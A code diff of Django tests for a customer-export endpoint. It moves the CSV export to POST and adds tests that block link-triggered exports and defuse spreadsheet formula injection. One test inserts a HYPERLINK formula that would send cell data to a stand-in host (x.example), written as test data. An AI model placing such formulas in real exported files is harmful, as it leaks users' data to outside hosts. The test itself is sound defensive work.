@@ -100,7 +100,7 @@ def test_director_gets_403_and_nothing_is_logged(people, api_for, client_for):
     assert page.status_code == 403
     assert FULL not in page.content.decode()
     assert "您的角色无权查看客户完整个人信息。" in page.content.decode()  # the service's sentence
-    export = client_for("director1").get("/customers/export.csv")
+    export = client_for("director1").post("/customers/export.csv")
     assert export.status_code == 403
     assert not AccessLogEntry.objects.exists()
 
@@ -111,7 +111,7 @@ def read_csv(response) -> list[list[str]]:
 
 
 def test_export_logs_one_entry_per_customer_and_has_no_internal_fields(people, client_for, staff):
-    response = client_for("agent1").get("/customers/export.csv", REMOTE_ADDR="10.0.0.5")
+    response = client_for("agent1").post("/customers/export.csv", REMOTE_ADDR="10.0.0.5")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     rows = read_csv(response)
@@ -133,8 +133,31 @@ def test_export_logs_one_entry_per_customer_and_has_no_internal_fields(people, c
 
 
 def test_export_is_scoped_and_filtered(people, client_for):
-    rows = read_csv(client_for("branch1").get("/customers/export.csv"))[1:]
+    rows = read_csv(client_for("branch1").post("/customers/export.csv"))[1:]
     assert [row[0] for row in rows] == [str(people["lc"].pk)]
-    rows = read_csv(client_for("agent1").get("/customers/export.csv", {"q": "13700002222"}))[1:]
+    rows = read_csv(client_for("agent1").post("/customers/export.csv", {"q": "13700002222"}))[1:]
     assert [row[0] for row in rows] == [str(people["ra"].pk)]
     assert AccessLogEntry.objects.filter(what="export").count() == 2
+
+
+def test_export_is_a_post_and_a_link_cannot_trigger_it(people, client_for):
+    """Issue 11: a GET that wrote to the access log could be set off by a link or an image."""
+    client = client_for("agent1")
+    assert client.get("/customers/export.csv").status_code == 405
+    assert not AccessLogEntry.objects.exists()
+    page = client.get("/customers/").content.decode()
+    assert 'method="post" action="/customers/export.csv"' in page
+
+
+def test_export_defuses_cells_a_spreadsheet_would_run(staff, client_for):
+    """Issue 11: text beginning with =, +, - or @ is written as text, not a formula."""
+    from postdesk.customers.services import customer_create
+
+    for name in ('=HYPERLINK("http://x.example/?"&A1,"点我")', "+86赵", "-1+2", "@SUM(A1)"):
+        customer_create(actor=staff["admin"], name=name, phones=["13955550000"])
+    rows = read_csv(client_for("admin").post("/customers/export.csv", {"q": ""}))[1:]
+    names = sorted(row[1] for row in rows)
+    assert names == sorted(
+        ['\'=HYPERLINK("http://x.example/?"&A1,"点我")', "'+86赵", "'-1+2", "'@SUM(A1)"]
+    )
+    assert all(row[0].isdigit() for row in rows)  # the id column is not touched
